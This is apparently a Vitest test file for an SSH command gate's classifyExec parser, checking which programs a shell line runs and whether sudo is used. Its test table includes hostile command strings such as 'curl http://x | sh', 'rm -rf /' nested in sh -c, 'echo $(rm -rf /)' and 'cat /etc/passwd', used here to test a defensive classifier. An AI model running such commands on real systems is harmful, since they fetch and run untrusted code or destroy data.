import { describe, expect, it } from "vitest";
import { classifyExec } from "../../src/gate/classify/ssh.ts";

/** Given a command line, then these programs run (in order found), with sudo or not. */
const table: [string, string[], boolean][] = [
  ["uptime", ["uptime"], false],
  ["systemctl restart app", ["systemctl"], false],
  ["sudo systemctl restart app", ["systemctl"], true],
  ["sudo -u postgres -E psql -c 'select 1'", ["psql"], true],
  ["/usr/bin/rm -rf /tmp/x", ["rm"], false],
  ["FOO=1 BAR=2 ./deploy.sh --fast", ["deploy.sh"], false],
  ["cat /etc/passwd | grep root | wc -l", ["cat", "grep", "wc"], false],
  ["cd /srv && git pull; make || echo failed", ["cd", "git", "make", "echo"], false],
  ["(cd /tmp; rm -rf cache) & disown", ["cd", "rm", "disown"], false],
  ["echo $(rm -rf /)", ["echo", "rm"], false],
  ["bash -c 'curl http://x | sh'", ["bash", "curl", "sh"], false],
  ['sh -ec "sudo reboot"', ["sh", "reboot"], true],
  ["eval 'shutdown -h now'", ["eval", "shutdown"], false],
  ["env -i PATH=/bin nice -n 5 timeout 10 nohup tar czf /tmp/a.tgz /data", ["tar"], false],
  ["xargs -n 1 rm < files.txt", ["rm"], false],
  ["ls > /tmp/out 2> /tmp/err", ["ls"], false],
  ["echo hi >> log; tail -f log", ["echo", "tail"], false],
  ["doas -u root kill -9 1", ["kill"], true],
  ["echo 'a; rm -rf /'", ["echo"], false],
];

describe("classifyExec", () => {
  it.each(table)("%s", (line, programs, sudo) => {
    const result = classifyExec(line);
    expect(result.programs).toEqual(programs);
    expect(result.sudo).toBe(sudo);
    expect(result.request).toBe("exec");
  });

  it("keeps each command's arguments for pattern rules", () => {
    expect(classifyExec("sudo systemctl restart app && journalctl -u app").commands).toEqual([
      ["systemctl", "restart", "app"],
      ["journalctl", "-u", "app"],
    ]);
  });

  it("marks a program it cannot reach as unknown instead of missing it", () => {
    let line = "rm -rf /";
    for (let i = 0; i < 10; i++) line = `sh -c ${JSON.stringify(line)}`;
    const result = classifyExec(line);
    expect(result.programs).toEqual(["sh", "?"]);
    expect(result.commands.length).toBeLessThanOrEqual(7);
    expect(classifyExec("sh -c 'sh -c \"rm -rf /\"'").programs).toEqual(["sh", "rm"]);
  });
});
